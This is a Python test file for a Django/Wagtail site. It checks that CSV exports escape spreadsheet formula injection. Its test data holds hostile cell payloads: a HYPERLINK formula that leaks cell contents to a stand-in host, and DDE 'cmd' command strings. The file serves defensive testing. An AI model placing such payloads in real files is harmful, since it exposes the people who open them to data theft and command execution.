"""A cell an editor typed never becomes a formula in a spreadsheet that opens a CSV.

An editor (or a CSV import) can write ``=HYPERLINK("http://…","Clic")`` in a title; the
public CSVs under ``/datos/`` and every admin export (listings, Wagtail's reports) put that
text in a cell, and a spreadsheet runs it when a citizen or a coordination opens the file.
Every such cell goes out as text (a leading apostrophe, as OWASP recommends); numbers,
dates and telephone numbers stay as they are.
"""

import csv
import io

import pytest
from django.urls import reverse

from cms.hojas import celda

PELIGROSOS = [
    '=HYPERLINK("http://malo.example/?d="&A1,"Clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
INOFENSIVOS = ["", "Convenio de colaboración", "+52 55 5004 2400", "-12.5", "(55) 1234-5678", 7]


@pytest.mark.parametrize("texto", PELIGROSOS)
def test_a_formula_goes_out_as_text(texto):
    assert celda(texto) == "'" + texto


@pytest.mark.parametrize("valor", INOFENSIVOS)
def test_numbers_phones_and_plain_text_are_left_alone(valor):
    assert celda(valor) == valor


def _celdas(contenido):
    texto = contenido.decode("utf-8-sig")
    return [c for fila in csv.reader(io.StringIO(texto)) for c in fila]


def _formula_abierta(celdas):
    """Cells a spreadsheet would evaluate."""
    return [c for c in celdas if c != celda(c)]


def celdas_exportadas(client, nombre_url):
    """The cells of an admin view's CSV export (``?export=csv``), after asserting a 200."""
    response = client.get(reverse(nombre_url), {"export": "csv"})
    assert response.status_code == 200, nombre_url
    contenido = b"".join(response.streaming_content if response.streaming else [response.content])
    return _celdas(contenido)


def test_wagtails_reports_escape_formulas(client, make_user, regions):
    """A page title in Wagtail's own reports (aging pages, site history), exported by a
    superuser."""
    inicio = regions["norte"].site.root_page.specific
    inicio.title = PELIGROSOS[0]
    inicio.save_revision().publish()
    client.force_login(make_user(superuser=True))
    for nombre in ("wagtailadmin_reports:aging_pages", "wagtailadmin_reports:site_history"):
        celdas = celdas_exportadas(client, nombre)
        assert any(c.startswith("'" + PELIGROSOS[0]) for c in celdas), nombre
        assert _formula_abierta(celdas) == [], nombre
